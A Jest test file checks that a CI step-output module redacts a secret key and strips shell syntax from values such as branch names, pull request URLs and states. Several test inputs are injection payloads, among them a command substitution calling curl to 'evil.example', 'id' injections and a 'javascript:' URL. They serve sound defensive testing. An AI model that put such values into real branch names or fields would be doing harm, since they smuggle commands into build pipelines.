import { expect, test } from '@jest/globals'
import fc from '../support/fast-check.ts'
import { Outputs } from '../../src/report/step-outputs.ts'
import { createRedactor } from '../../src/platform/text/redact.ts'

const key = 'wk-1-abcdefghijklmnopqrstuvwxyz'

/** What reaches the runner, in its order. */
function record(): { readonly outputs: Outputs; readonly seen: readonly (readonly string[])[] } {
  const seen: string[][] = []
  const runner = {
    setOutput: (name: string, value: string) => void seen.push([name, value]),
    saveState: () => undefined,
    mask: () => undefined,
    writeSummary: () => undefined,
  }
  return { outputs: new Outputs(runner, createRedactor([key])), seen }
}

test.each([
  ['a NUL, which no environment variable can hold', 'a\0b\0', 'a\u{fffd}b\u{fffd}'],
  ['a key', `It is ${key}.`, 'It is ***.'],
  ['all else as it is', ' ::x::\r\n\u001b[1m ', ' ::x::\r\n\u001b[1m '],
])('%s', (_, value, expected) => {
  const { outputs, seen } = record()
  outputs.set('result', value)
  expect(seen).toEqual([['result', expected]])
})

test('is set again only when it changes, and not at all where there is nothing to say', () => {
  const { outputs, seen } = record()
  for (const state of ['QUEUED', 'QUEUED', undefined, 'INPROGRESS']) outputs.set('state', state)
  expect(seen).toEqual([
    ['state', 'QUEUED'],
    ['state', 'INPROGRESS'],
  ])
})

const setAlone = (name: Parameters<Outputs['set']>[0], value: string): string | undefined => {
  const { outputs, seen } = record()
  outputs.set(name, value)
  return seen[0]?.[1]
}

test.each([
  ['branch', 'oz/fix-1', 'oz/fix-1'],
  ['branch', 'feature/größe_2+x@y=z', 'feature/größe_2+x@y=z'],
  ['branch', 'x$(curl${IFS}evil.example)', ''],
  ['branch', 'x`id`', ''],
  ['branch', "x';id;'", ''],
  ['branch', '-x', ''],
  ['pull_request_url', 'https://github.com/o/r/pull/1', 'https://github.com/o/r/pull/1'],
  ['pull_request_url', 'https://github.com/o/r/pull/1;$(id)', 'https://github.com/o/r/pull/1%3B%24%28id%29'],
  ['pull_request_url', "https://github.com/o/r/pull/1'&x|y", 'https://github.com/o/r/pull/1%27%26x%7Cy'],
  ['pull_request_url', 'javascript:alert(1)', ''],
  ['session_link', 'https://app.warp.dev/session/1?a=b&c=`d`', 'https://app.warp.dev/session/1?a=b%26c=%60d%60'],
  ['session_link', 'http://127.0.0.1:9/sessions/1', 'http://127.0.0.1:9/sessions/1'],
  ['verdict', 'needs-info', 'needs-info'],
  ['verdict', 'yes; $(id) && `x`', 'yes- -id- - -x-'],
  ['state', 'SUCCEEDED', 'SUCCEEDED'],
  ['state', 'NEW $(id)', 'NEW-id-'],
] as const)('%s: %s holds no shell syntax', (name, value, expected) => {
  expect(setAlone(name, value)).toBe(expected)
})

test('whatever comes, no sign of a shell stands in outputs that scripts use as they are', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('branch', 'pull_request_url', 'session_link', 'verdict', 'state'),
      fc.string(),
      (name, text) => {
        for (const value of [text, `a${text}`, `https://a.example/${text}`]) {
          expect(setAlone(name, value)).not.toMatch(/[$`"'\\;&|<>(){}[\]*!^\n\r]/)
        }
      },
    ),
  )
})
